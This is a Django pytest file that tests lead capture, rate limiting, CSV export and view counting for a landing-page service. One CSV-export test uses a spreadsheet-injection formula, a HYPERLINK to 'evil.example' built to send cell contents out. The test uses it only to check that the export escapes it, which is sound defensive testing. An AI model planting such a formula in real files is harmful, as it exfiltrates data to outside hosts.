import csv
import io

import pytest
from django.test import Client

from pages.models import Lead, PageViewDaily
from pages.serving import view_counts
from pages.tasks import page_views_flush_task

from .conftest import host_of
from .factories import LeadFactory, PageFactory

pytestmark = pytest.mark.django_db


def _post(page, data, ip="198.51.100.7", **headers):
    return Client(REMOTE_ADDR=ip).post("/_leads", data, headers={"host": host_of(page), **headers})


def test_lead_post_without_js_is_stored_and_redirects_to_thanks(
    published, django_capture_on_commit_callbacks, monkeypatch
):
    sent = []
    monkeypatch.setattr(
        "landinghub.realtime.events.send_to_user", lambda *args: sent.append(args) or True
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = _post(published, {"name": "Lan", "email": "lan@example.com", "_hp": ""})
    assert response.status_code == 303
    assert response["Location"] == "/#lh-thanks"
    assert not response.cookies
    lead = Lead.objects.get(page=published)
    assert lead.data == {"name": "Lan", "email": "lan@example.com"}
    assert lead.ip_address == "198.51.100.7"
    assert sent[-1][:2] == (published.owner_id, "dashboard:update")


def test_lead_post_with_js_gets_json(published):
    response = _post(published, {"email": "a@b.vn"}, accept="application/json")
    assert response.status_code == 201
    assert response.json() == {"ok": True}


def test_lead_honeypot_filled_is_dropped_silently(published):
    response = _post(published, {"email": "bot@spam.example", "_hp": "http://spam"})
    assert response.status_code == 303
    assert not Lead.objects.exists()


def test_lead_post_to_unpublished_page_is_404(page):
    response = _post(page, {"email": "a@b.vn"}, accept="application/json")
    assert response.status_code == 404
    assert not Lead.objects.exists()


def test_lead_flood_from_one_ip_is_429_after_limit(published, settings):
    settings.PAGES_LEAD_RATE_PER_MINUTE = 3
    codes = [
        _post(published, {"n": str(i)}, accept="application/json").status_code for i in range(5)
    ]
    assert codes == [201, 201, 201, 429, 429]
    throttled = _post(published, {"n": "x"}, accept="application/json")
    assert throttled.json()["error"]["code"] == "throttled"
    assert Lead.objects.count() == 3
    # Another visitor is not affected, and nothing under the limit was dropped.
    assert _post(published, {"n": "other"}, ip="203.0.113.9").status_code == 303
    stored = sorted(lead.data["n"] for lead in Lead.objects.all())
    assert stored == ["0", "1", "2", "other"]


def test_leads_api_lists_own_leads(auth_client, page):
    LeadFactory.create_batch(3, page=page)
    LeadFactory()  # someone else's page
    response = auth_client.get(f"/api/pages/{page.pk}/leads")
    assert response.status_code == 200
    assert response.json()["count"] == 3
    assert response.json()["results"][0]["data"]["email"] == "lan@example.com"


def test_leads_csv_export_neutralises_formulas(auth_client, page):
    LeadFactory(page=page, data={"name": '=HYPERLINK("x")', "phone": "0901"})
    LeadFactory(page=page, data={"email": "b@c.vn"})
    response = auth_client.get(f"/api/pages/{page.pk}/leads.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = text.strip().splitlines()
    assert header.startswith("created_at,") and header.endswith(",ip_address")
    assert set(header.split(",")[1:-1]) == {"name", "phone", "email"}
    assert any("'=HYPERLINK" in row for row in rows)


def test_leads_csv_export_neutralises_formulas_in_field_names(auth_client, page):
    field = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
    LeadFactory(page=page, data={field: "Lan", "@SUM(1+1)": "x", "email": "b@c.vn"})
    response = auth_client.get(f"/api/pages/{page.pk}/leads.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header_cells = next(csv.reader(io.StringIO(text)))
    # PostgreSQL's jsonb orders keys its own way: compare columns, not their order.
    assert sorted(header_cells[1:-1]) == sorted(["'" + field, "'@SUM(1+1)", "email"])
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in header_cells)
    # The values still land under their (escaped) column.
    row = list(csv.reader(io.StringIO(text)))[1]
    by_column = dict(zip(header_cells[1:-1], row[1:-1], strict=True))
    assert by_column == {"'" + field: "Lan", "'@SUM(1+1)": "x", "email": "b@c.vn"}


def test_views_are_counted_in_cache_and_flushed(published, django_assert_num_queries):
    client = Client()
    assert client.get("/", headers={"host": host_of(published)}).status_code == 200
    # Once the host is in the cache, a view costs no query at all (and never a write).
    with django_assert_num_queries(0):
        for _ in range(2):
            assert client.get("/", headers={"host": host_of(published)}).status_code == 200
    assert view_counts.views_pending(published.pk) == 3
    published.refresh_from_db()
    assert published.views == 0
    assert page_views_flush_task.delay().get() == 3
    published.refresh_from_db()
    assert published.views == 3
    assert PageViewDaily.objects.get(page=published).views == 3
    assert view_counts.views_pending(published.pk) == 0
    assert page_views_flush_task.delay().get() == 0


def test_page_list_shows_views_leads_and_conversion(auth_client, user):
    page = PageFactory(owner=user, views=40)
    LeadFactory.create_batch(2, page=page)
    stats = auth_client.get("/api/pages").json()["results"][0]["stats"]
    assert stats == {"views": 40, "leads": 2, "conversion_rate": 5.0}


def test_flush_task_is_in_beat_schedule(settings):
    tasks = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert "pages.tasks.page_views_flush_task" in tasks


def test_lead_post_oversized_is_413_and_not_stored(published, settings):
    settings.PAGES_MAX_LEAD_BYTES = 1024
    response = _post(published, {"message": "x" * 2000}, accept="application/json")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert not Lead.objects.exists()
    assert _post(published, {"message": "short"}).status_code == 303


def test_lead_fields_are_capped_in_number_and_length(published, settings):
    settings.PAGES_MAX_LEAD_BYTES = 1024 * 1024
    data = {f"f{i}": "v" * 5000 for i in range(40)}
    assert _post(published, data).status_code == 303
    stored = Lead.objects.get().data
    assert len(stored) == 30 and all(len(v) == 2000 for v in stored.values())
